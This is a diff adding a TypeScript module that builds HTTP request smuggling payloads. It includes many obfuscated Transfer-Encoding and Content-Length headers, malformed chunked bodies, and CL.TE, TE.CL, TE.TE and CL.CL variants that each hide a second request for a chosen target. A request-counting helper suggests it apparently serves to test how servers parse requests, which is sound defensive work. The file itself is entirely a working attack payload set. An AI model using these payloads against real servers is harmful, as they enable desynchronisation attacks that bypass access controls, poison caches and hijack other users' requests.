@@ -1,0 +1,143 @@
+/** Requests that two servers may take for different ones, each with a request hidden in it for the target. */
+export type Attack = { readonly title: string; readonly text: (hidden: string) => string };
+
+const host = 'Host: localhost\r\n';
+
+function hiddenRequest(target: string): string {
+  return `GET ${target} HTTP/1.1\r\n${host}X: `;
+}
+
+function post(fields: string, body: string): string {
+  return `POST /nothing HTTP/1.1\r\n${host}${fields}\r\n\r\n${body}`;
+}
+
+/** Both ways to frame a body at once, the second hidden from one of two servers in many ways. */
+const transferEncodings = [
+  'Transfer-Encoding: chunked',
+  'Transfer-Encoding : chunked',
+  'Transfer-Encoding:\tchunked',
+  'Transfer-Encoding:\x0bchunked',
+  'Transfer-Encoding: xchunked',
+  'Transfer-Encoding: chunked, identity',
+  'Transfer-Encoding: identity, chunked',
+  'Transfer-Encoding: "chunked"',
+  'Transfer-Encoding: chunk\r\n ed',
+  'Transfer-Encoding:\r\n chunked',
+  'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
+  'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
+  'Transfer-Encoding: chunked;a=b',
+  'transfer-encoding: CHUNKED',
+  ' Transfer-Encoding: chunked',
+  'X: y\nTransfer-Encoding: chunked',
+  'X: y\rTransfer-Encoding: chunked',
+  'Transfer_Encoding: chunked',
+  'Transfer-Encoding\0: chunked',
+];
+
+const lengths: readonly ((length: number) => string)[] = [
+  (length) => `Content-Length: ${length}\r\nContent-Length: 0`,
+  (length) => `Content-Length: 0\r\nContent-Length: ${length}`,
+  (length) => `Content-Length: ${length}, 0`,
+  (length) => `Content-Length: 0, ${length}`,
+  (length) => `Content-Length : ${length}`,
+  (length) => `Content-Length: +${length}`,
+  (length) => `Content-Length: 0x${length.toString(16)}`,
+  (length) => `Content-Length: ${length} 0`,
+  (length) => `Content-Length:\r\n ${length}`,
+  (length) => `Content-Length: 0\r\n ${length}`,
+  (length) => `X: y\nContent-Length: ${length}`,
+  (length) => `Content_Length: ${length}`,
+  (length) => `Content-Length: ${length}\r\nConnection: Content-Length`,
+  (length) => `Content-Length: ${length}\r\nExpect: 100-continue`,
+  (length) => `Content-Length: ${length}\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings`,
+];
+
+/** Chunked bodies that end in two places. */
+const chunkedBodies: readonly ((hidden: string) => string)[] = [
+  (hidden) => `0;a\n${hidden}\r\n\r\n`,
+  (hidden) => `1;a\nb\r\n0\r\n\r\n${hidden}`,
+  (hidden) => `0\n\r\n${hidden}`,
+  (hidden) => `0\r\n${hidden}\r\n\r\n`,
+  (hidden) => `0\r\nX: y\n\n${hidden}`,
+  (hidden) => `0x0\r\n\r\n${hidden}`,
+  (hidden) => `00000000000000000\r\n\r\n${hidden}`,
+  (hidden) => `10000000000000000\r\n\r\n${hidden}`,
+  (hidden) => `-1\r\n\r\n${hidden}`,
+  (hidden) => `1\r\nab\r\n0\r\n\r\n${hidden}`,
+  (hidden) => `0;${'a'.repeat(2000)}\r\n\r\n${hidden}`,
+  (hidden) => `0\r\nContent-Length: 5\r\nTransfer-Encoding: x\r\n\r\n${hidden}`,
+];
+
+/** Other ways to be understood in two ways. */
+const others: readonly Attack[] = [
+  {
+    title: 'a GET with a body',
+    text: (hidden) =>
+      `GET /nothing HTTP/1.1\r\n${host}Content-Length: ${hidden.length}\r\n\r\n${hidden}`,
+  },
+  {
+    title: 'a HEAD with a body',
+    text: (hidden) =>
+      `HEAD /nothing HTTP/1.1\r\n${host}Content-Length: ${hidden.length}\r\n\r\n${hidden}`,
+  },
+  {
+    title: 'chunks of HTTP/1.0',
+    text: (hidden) =>
+      `POST /nothing HTTP/1.0\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${hidden}`,
+  },
+  {
+    title: 'an absolute target of another host',
+    text: (hidden) => `GET http://other/nothing HTTP/1.1\r\n${host}\r\n${hidden}`,
+  },
+  {
+    title: 'an absolute target with a line in it',
+    text: (hidden) =>
+      `GET http://a/%0d%0a%0d%0a${encodeURIComponent(hidden)} HTTP/1.1\r\n${host}\r\n`,
+  },
+  { title: 'HTTP/0.9 first', text: (hidden) => `GET /nothing\r\n${hidden}\r\n\r\n` },
+  { title: 'bare LF', text: (hidden) => `GET /nothing HTTP/1.1\nHost: a\n\n${hidden}` },
+  { title: 'empty lines first', text: (hidden) => `\r\n\r\n\n${hidden}\r\n\r\n` },
+  { title: 'two Hosts', text: (hidden) => `GET /nothing HTTP/1.1\r\n${host}${host}\r\n${hidden}` },
+  {
+    title: 'a request that goes on in the next',
+    text: (hidden) => `GET /nothing HTTP/1.1\r\n${host}\r\n${hidden}`,
+  },
+  { title: 'HTTP/2', text: (hidden) => `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${hidden}` },
+];
+
+/** Every attack that is known here. */
+export const attacks: readonly Attack[] = [
+  ...transferEncodings.flatMap((field): Attack[] => [
+    {
+      title: `CL.TE with ${JSON.stringify(field)}`,
+      text: (hidden) =>
+        post(`Content-Length: ${hidden.length + 5}\r\n${field}`, `0\r\n\r\n${hidden}`),
+    },
+    {
+      title: `TE.CL with ${JSON.stringify(field)}`,
+      text: (hidden) => {
+        const size = hidden.length.toString(16);
+        const body = `${size}\r\n${hidden}\r\n0\r\n\r\n`;
+        return post(`${field}\r\nContent-Length: ${size.length + 2}`, body);
+      },
+    },
+    {
+      title: `TE.TE with ${JSON.stringify(field)}`,
+      text: (hidden) => post(field, `0\r\n\r\n${hidden}`),
+    },
+  ]),
+  ...lengths.map((field) => ({
+    title: `CL.CL with ${JSON.stringify(field(1))}`,
+    text: (hidden: string) => post(field(hidden.length), hidden),
+  })),
+  ...chunkedBodies.map((body) => ({
+    title: `chunks such as ${JSON.stringify(body('').slice(0, 40))}`,
+    text: (hidden: string) => post('Transfer-Encoding: chunked', body(hidden)),
+  })),
+  ...others,
+].map(({ title, text }) => ({ title, text: (target) => text(hiddenRequest(target)) }));
+
+/** How many requests a server may at most find in a text: one for each place where one begins. */
+export function mostRequests(text: string): number {
+  return text.match(/(?:GET|HEAD|POST|PRI) \S+/g)?.length ?? 0;
+}
